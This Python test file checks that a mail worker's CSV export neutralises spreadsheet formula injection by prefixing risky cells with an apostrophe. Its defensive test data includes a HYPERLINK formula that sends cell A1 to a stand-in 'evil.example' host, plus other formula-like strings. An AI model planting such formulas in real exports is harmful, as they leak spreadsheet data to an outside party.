"""worker.mail.csvsafe: cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from worker.cli import audit
from worker.mail.csvsafe import safe_cell, write_csv
from worker.models import AuditRow, Outcome

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # strangers' text: neutralised when a spreadsheet would read a formula
        (HYPERLINK, "'" + HYPERLINK),
        ("=cmd.pdf", "'=cmd.pdf"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # text from a stranger that looks like a number is still text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # text that no spreadsheet runs: as it is
        ("Invoice 1042", "Invoice 1042"),
        ("a=b.pdf", "a=b.pdf"),
        (" =1+1", " =1+1"),  # a leading space makes it text to every spreadsheet
        ("'quoted", "'quoted"),
        ("", ""),
        # our own values: numbers stay numbers, whatever their sign
        (4711, "4711"),
        (-1, "-1"),
        (0, "0"),
        (-2.5, "-2.5"),
        (None, ""),
        (datetime(2026, 11, 24, 12, 0, 5, 123, tzinfo=UTC), "2026-11-24T12:00:05+00:00"),
        (Outcome.REJECTED, "rejected"),
    ],
)
def test_safe_cell(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_write_csv_reads_back_with_every_cell_safe() -> None:
    text = write_csv(["subject", "size"], [[HYPERLINK, -3], ["=cmd.pdf\nline two", 12]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["subject", "size"],
        ["'" + HYPERLINK, "-3"],
        ["'=cmd.pdf\nline two", "12"],
    ]


def test_the_audit_csv_neutralises_strangers_text_and_keeps_our_numbers() -> None:
    row = AuditRow(
        id=7,
        received_at=datetime(2026, 11, 24, 12, 0, tzinfo=UTC),
        mail_date=None,
        mailbox="invoices@imap.example/INBOX",
        uidvalidity=1000,
        uid=42,
        message_id="@evil",
        sender="-evil <x@evil.example>",
        subject=HYPERLINK,
        filename="=cmd.pdf",
        size_bytes=-1,  # never negative in practice; the column is ours either way
        sha256=None,
        fingerprint=None,
        invoice_number="+1042",
        outcome=Outcome.REJECTED,
        reason="=not a PDF",
        duplicate_of=None,
        forwarded_at=None,
        forwarded_message_id=None,
        attempts=None,
    )
    [parsed] = list(csv.DictReader(io.StringIO(audit.as_csv([row]))))
    assert parsed["subject"] == "'" + HYPERLINK
    assert parsed["filename"] == "'=cmd.pdf"
    assert parsed["sender"] == "'-evil <x@evil.example>"
    assert parsed["message_id"] == "'@evil"
    assert parsed["invoice_number"] == "'+1042"
    assert parsed["reason"] == "'=not a PDF"
    assert (parsed["id"], parsed["uid"], parsed["size_bytes"]) == ("7", "42", "-1")
    assert parsed["outcome"] == "rejected"
    assert parsed["received_at"] == "2026-11-24T12:00:00+00:00"
